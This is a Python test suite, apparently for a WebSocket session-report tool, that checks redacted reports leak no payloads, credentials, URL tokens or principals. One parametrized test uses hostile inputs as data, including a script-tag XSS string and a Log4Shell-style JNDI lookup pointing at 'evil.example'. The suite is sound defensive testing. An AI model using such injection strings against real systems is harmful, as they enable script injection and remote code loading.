"""A redacted report gives away nothing of the payloads but their type and size."""

from __future__ import annotations

import base64
import json
import re
from collections.abc import Iterable, Iterator
from dataclasses import replace
from functools import cache
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from icws_explore.analysis.doctor import RULES
from icws_explore.capture import Capture, Frame, SessionInfo
from icws_explore.protocol import candid
from icws_explore.protocol.constants import NS_PER_S
from icws_explore.protocol.principal import Principal
from icws_explore.protocol.service_messages import CloseReason
from icws_explore.views.report import contents as report_contents
from icws_explore.views.report.gather import gather
from icws_explore.views.report.html import html_report
from icws_explore.views.report.markdown import markdown_report
from support.doctor_scenarios import SCENARIOS
from support.network_side import answered, err, ok, poll_replied, polled, trapped
from support.session_captures import SessionScript, hostile

FEW = settings(max_examples=8, deadline=None, suppress_health_check=[HealthCheck.too_slow])
LEAST = 6  # consecutive characters or bytes that must not appear


@pytest.fixture(autouse=True)
def one_session_in_detail(monkeypatch: pytest.MonkeyPatch) -> None:
    """The other sessions are written by the same code, and their figures take time."""
    monkeypatch.setattr(report_contents, "MAX_SESSIONS", 1)


def written(capture: Capture) -> list[str]:
    """Both forms of a redacted report."""
    contents = gather(capture, privacy="redacted")
    return [html_report(contents), markdown_report(contents)]


def talk(*payloads: bytes, app_type: str | None = None) -> Capture:
    """A session in which both sides send each payload, and which fails at the end."""
    script = SessionScript().opened()
    script.capture.info = replace(script.capture.info, app_type=app_type)
    for number, payload in enumerate(payloads):
        script.client_says_bytes(4.0 + number, payload)
        script.canister_says(4.5 + number, payload)
    return script.canister_closes(60.0, CloseReason.WRONG_SEQUENCE_NUMBER).closed(60.1, "out", 4000).capture


# Values: text of any script, numbers, blobs, principals, nested in records, options, vectors and variants.

words = st.text(st.characters(exclude_categories=("Cs",)), min_size=LEAST, max_size=40)
leaves = st.one_of(
    words.map(lambda word: (candid.TEXT, word)),
    st.integers(10**8, 2**64 - 1).map(lambda number: (candid.NAT64, number)),
    st.integers(-(10**40), -(10**9)).map(lambda number: (candid.INT, number)),
    st.binary(min_size=LEAST, max_size=60).map(lambda blob: (candid.BLOB, blob)),
    st.binary(min_size=20, max_size=29).map(lambda raw: (candid.PRINCIPAL, Principal(raw))),
)


def _nested(inner: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
    return st.one_of(
        inner.map(lambda typed: (candid.Opt(typed[0]), typed[1])),
        inner.map(lambda typed: (candid.Vec(typed[0]), [typed[1]])),
        inner.map(lambda typed: (candid.Variant((candid.Field("Said", typed[0]),)), {"Said": typed[1]})),
        st.tuples(inner, leaves).map(
            lambda both: (
                candid.Record((candid.Field("one", both[0][0]), candid.Field("two", both[1][0]))),
                {"one": both[0][1], "two": both[1][1]},
            )
        ),
    )


values = st.recursive(leaves, _nested, max_leaves=6)


def strings_of(value: Any) -> Iterator[str]:
    if isinstance(value, dict):
        for each in value.values():
            yield from strings_of(each)
    elif isinstance(value, list):
        for each in value:
            yield from strings_of(each)
    elif isinstance(value, bytes):
        yield from forms_of(value)
    else:
        yield str(value)


def forms_of(data: bytes) -> Iterator[str]:
    """Parts of the bytes as hexadecimal and base64, wherever a view may have cut them."""
    for at in range(0, max(1, len(data) - LEAST + 1), 3):
        run = data[at : at + LEAST]
        if len(run) == LEAST:
            yield run.hex()
    for shift in range(3):
        encoded = base64.b64encode(data[shift:]).decode("ascii").rstrip("=")
        yield from (encoded[at : at + 8] for at in range(0, len(encoded) - 8, 8))


def writings(text: str) -> Iterator[str]:
    """A text and its parts as HTML, JSON, Python and Markdown write it, so that cutting does not hide it."""
    import html

    is_number = text.lstrip("-").isdecimal()  # parts of a number are in every nonce
    parts = (
        {text[at : at + LEAST] for at in range(0, len(text) - LEAST + 1, LEAST)}
        if len(text) > 12 and not is_number
        else {text}
    )
    for part in parts:
        yield from {part, html.escape(part), json.dumps(part)[1:-1], repr(part)[1:-1]}


def visible(page: str) -> str:
    """Without the coordinates of drawings, which contain any number of a few digits."""
    return re.sub(r'\b(d|x|y|points|transform|style|clip-path|id|xlink:href)="[^"]*"', "", page)


def assert_absent(capture: Capture, private: Iterable[str]) -> None:
    texts = [visible(text) for text in written(capture)]
    plain = plain_reports()
    for secret in {writing for text in private for writing in writings(text) if len(writing) >= LEAST}:
        if any(secret in text for text in plain):
            continue  # a word of every report
        assert not any(secret in text for text in texts), secret


@cache
def plain_reports() -> list[str]:
    """What every report says, and what the rules always say."""
    rules = [f"{rule.sdk_behaviour} {rule.fix} {rule.source}" for rule in RULES.values()]
    return [*written(talk(candid.encode([], []))), *rules]


class TestPayloads:
    @FEW
    @given(st.lists(values, min_size=1, max_size=4))
    def test_of_a_type_do_not_appear(self, said: list[tuple[candid.Type, Any]]) -> None:
        payloads = [candid.encode([type_], [value]) for type_, value in said]
        capture = talk(*payloads)
        assert_absent(capture, [text for _, value in said for text in strings_of(value)])

    @FEW
    @given(st.lists(st.binary(min_size=12, max_size=300), min_size=1, max_size=4))
    def test_that_are_not_candid_do_not_appear(self, payloads: list[bytes]) -> None:
        private = [text for payload in payloads for text in forms_of(payload)]
        assert_absent(talk(*payloads, app_type="text"), private)

    def test_of_another_type_than_declared_do_not_appear(self) -> None:
        payload = candid.encode([candid.TEXT], ["the secret of the tower"])
        assert_absent(talk(payload, app_type="record { id : nat64; secret : text }"), ["the secret of the tower"])

    def test_of_great_size_do_not_appear(self) -> None:
        text = "".join(chr(0x4E00 + number % 5000) for number in range(200_000))
        assert_absent(talk(candid.encode([candid.TEXT], [text])), [text[:24], text[777:801], text[-24:]])

    @pytest.mark.parametrize(
        "text",
        [
            "</code></details><script>alert(1)</script>",
            "hunter2 \x1b[31mred\x1b[0m \u202egnirts",
            "hunter2›‹/bytes hunter2",
            "${jndi:ldap://evil.example/x}",
            "DIDL\x00\x01\x71" * 20,
        ],
    )
    def test_that_are_hostile_do_not_appear(self, text: str) -> None:
        assert_absent(talk(candid.encode([candid.TEXT], [text]), text.encode()), [text])

    def test_do_not_appear_by_names_in_their_type_table(self) -> None:
        service = candid.Service((("reveal_the_password", candid.Func((), (), ())),))
        payload = candid.encode([service], [candid.ServiceRef(Principal(b"\x01" * 10))])
        assert_absent(talk(payload), ["reveal_the_password"])

    def test_of_malformed_frames_do_not_appear(self) -> None:
        capture = hostile()
        capture.frames.append(Frame(capture.frames[-1].t, "out", "text", b"my password is hunter2", code=None))
        capture.frames.append(Frame(capture.frames[-1].t, "in", "binary", b"\xa1\x6fhunter2 hunter2\x01"))
        assert_absent(capture, ["my password is hunter2", "hunter2 hunter2"])

    def test_of_a_hostile_recording_do_not_appear(self) -> None:
        assert_absent(hostile(), ["alert('sent')", "onerror=alert", "alert('note')", 'onclick="x"', "skipped"])

    @pytest.mark.parametrize("name", sorted(SCENARIOS))
    def test_do_not_appear_in_any_finding(self, name: str) -> None:
        """Runs every rule, and reads its explanation and the report around it."""
        capture = SCENARIOS[name]()
        times = {str(round(frame.t * NS_PER_S)) for frame in capture.frames}  # some apps send the time
        private = []
        for decoded in gather(capture).frames:
            if decoded.kind in ("message", "app") and decoded.message is not None:
                private += list(strings_of(decoded.value)) if decoded.has_value else []
                private += list(forms_of(decoded.message.content))
                times.add(str(decoded.message.timestamp_ns))
        assert_absent(capture, [text for text in private if len(text) >= LEAST and text not in times])


class TestSameReport:
    """The strongest test: other payloads of the same type and size give the same report."""

    @FEW
    @given(
        st.lists(
            st.tuples(st.text("abcdefgh", min_size=8, max_size=8), st.text("12345678", min_size=8, max_size=8)),
            min_size=1,
            max_size=3,
        )
    )
    def test_for_two_conversations(self, pairs: list[tuple[str, str]]) -> None:
        one, other = (talk(*[candid.encode([candid.TEXT], [pair[side]]) for pair in pairs]) for side in (0, 1))
        assert written(one) == written(other)

    def test_for_two_that_do_not_decode(self) -> None:
        one, other = (talk(letter * 40, app_type="text") for letter in (b"x", b"y"))
        assert written(one) == written(other)


class TestOtherPrivateTexts:
    def test_credentials_queries_and_paths_of_urls(self) -> None:
        capture = talk()
        capture.info = replace(
            capture.info,
            gateway_url="wss://bob:pa55word@gateway.example:444/private/lane?token=s3cr3t-token#frag",
            network_url="https://icp-api.io/?key=abcdef99",
        )
        for text in written(capture):
            assert "wss://gateway.example:444/…?…" in text
            assert "https://icp-api.io/?…" in text
            for secret in ("pa55word", "s3cr3t", "abcdef99", "private/lane"):
                assert secret not in text

    def test_credentials_never_go_into_a_report(self) -> None:
        capture = talk()
        capture.info = replace(capture.info, gateway_url="wss://bob:pa55word@gateway.example/?token=abc")
        capture.notes.append("session 1 is wss://bob:pa55word@gateway.example/")
        page = html_report(gather(capture))
        assert "pa55word" not in page
        assert "pa55word" in capture.notes[0]
        assert "token=abc" not in page
        assert "wss://gateway.example/?…" in page

    def test_texts_of_a_canister_or_a_client(self) -> None:
        capture = talk()
        end = capture.frames.pop()
        capture.frames.append(replace(end, reason="user 4711 logged out"))
        assert_absent(capture, ["user 4711 logged out"])

    @pytest.mark.parametrize(
        "said",
        [
            "the order of Mrs. Smith is unknown",
            'no "Smith" among "the clients" of today',
            "4711-0815",
            "it's 'Smith' again, isn't it",
        ],
    )
    def test_texts_of_a_canister_in_the_networks_answers(self, said: str) -> None:
        capture = SessionScript().opened().client_says(4.0, "ping").client_says(20.0, "ping again").capture
        capture = answered(capture, {1: ok(), 3: err(said), 4: trapped(said)})
        capture = polled(capture, capture.frames[-1].t + 1, poll_replied(said))
        shown = gather(capture)
        assert any(said in call.text for call in shown.calls)
        assert any("Smith" in finding.explanation or said in finding.explanation for finding in shown.findings)
        assert_absent(capture, [said, "Mrs. Smith", '"Smith"', "'Smith'"])
        redacted = gather(capture, privacy="redacted")
        assert redacted.findings.ids == shown.findings.ids
        assert [call.outcome for call in redacted.calls] == [call.outcome for call in shown.calls]

    def test_texts_of_the_cdk_are_kept(self) -> None:
        capture = SessionScript().opened().client_says(4.0, "ping").capture
        said = "Expected incoming sequence number 3 but got 5"
        [page, text] = written(answered(capture, {3: err(said)}))
        assert said in page
        assert said in text

    def test_names_of_sessions_and_texts_of_the_file(self) -> None:
        script = SessionScript(session="alice@example.org").opened()
        capture = script.capture
        capture.notes.append("session alice@example.org is wss://gateway.example/?token=abc123")
        capture.info = replace(
            capture.info, canister_id="no principal, hunter2", app_type="hunter2 {", started_at="hunter2"
        )
        assert_absent(capture, ["alice@example.org", "abc123", "hunter2"])

    def test_hashes_and_signatures_that_would_reveal_a_short_message(self) -> None:
        capture = talk(candid.encode([candid.TEXT], ["yes"]))
        shown, (redacted, _) = html_report(gather(capture)), written(capture)
        hashes = set(re.findall(r"\b(?=[0-9]*[a-f])[0-9a-f]{8,}(?=…|\b)", visible(shown)))
        assert len(hashes) > 20
        left = {each for each in hashes if each in visible(redacted)}
        assert left <= set(re.findall(r"SHA-256 ([0-9a-f]{16})", redacted))


class TestRemainder:
    def test_is_useful(self) -> None:
        payload = candid.encode([candid.parse_type("record { id : nat64; say : text }")], [{"id": 7, "say": "secret"}])
        page, _ = written(talk(payload))
        assert "‹record { text; nat64 }," in page or "‹record { nat64; text }," in page
        assert "Redacted:" in page
        assert "WrongSequenceNumber" in page
        assert "the canister closed" in page
        assert "3 of 3 passed" in page

    def test_has_the_findings_and_verdicts_of_the_real_bytes(self) -> None:
        for name in ("BODY_HASH", "BAD_CERTIFICATE", "BAD_SIGNATURE"):
            shown, redacted = gather(SCENARIOS[name]()), gather(SCENARIOS[name](), privacy="redacted")
            assert redacted.findings.ids == shown.findings.ids
            assert [finding.frames for finding in redacted.findings] == [finding.frames for finding in shown.findings]
            assert [verdict.ok for verdict in redacted.verdicts] == [verdict.ok for verdict in shown.verdicts]
            assert [request.ok for request in redacted.requests] == [request.ok for request in shown.requests]
            assert redacted.limits == shown.limits

    def test_does_not_change_the_recording(self) -> None:
        capture = talk(b"DIDL\x00\x00")
        before = list(capture.frames), capture.info
        written(capture)
        assert (capture.frames, capture.info) == before

    def test_keeps_the_texts_of_the_protocol(self) -> None:
        capture = talk()
        end = capture.frames.pop()
        capture.frames.append(replace(end, reason="Received close message from canister"))
        assert "Received close message from canister" in written(capture)[0]


class TestAnonymous:
    def test_contains_no_principal(self) -> None:
        capture = talk(b"DIDL\x00\x00")
        info = capture.info
        capture.info = replace(info, gateway_url=f"wss://{info.canister_id}.gateway.example/")
        contents = gather(capture, privacy="anonymous")
        assert info.canister_id is not None
        assert info.client_principal is not None
        for text in (html_report(contents), markdown_report(contents)):
            for secret in (info.canister_id, info.client_principal, info.client_principal[:5], info.canister_id[:5]):
                assert secret not in text
            assert not re.search(r"\b[a-z0-9]{5}(-[a-z0-9]{5}){3,}", visible(text))
            assert {"canister-1", "client-1", "gateway-1"} <= set(re.findall(r"\w+-1\b", text))
        assert "canister canister-1" in html_report(contents)  # under the headings of the figures

    def test_contains_no_unnamed_canister(self) -> None:
        capture = talk()
        capture.info = SessionInfo()
        assert "canister-1" in html_report(gather(capture, privacy="anonymous"))
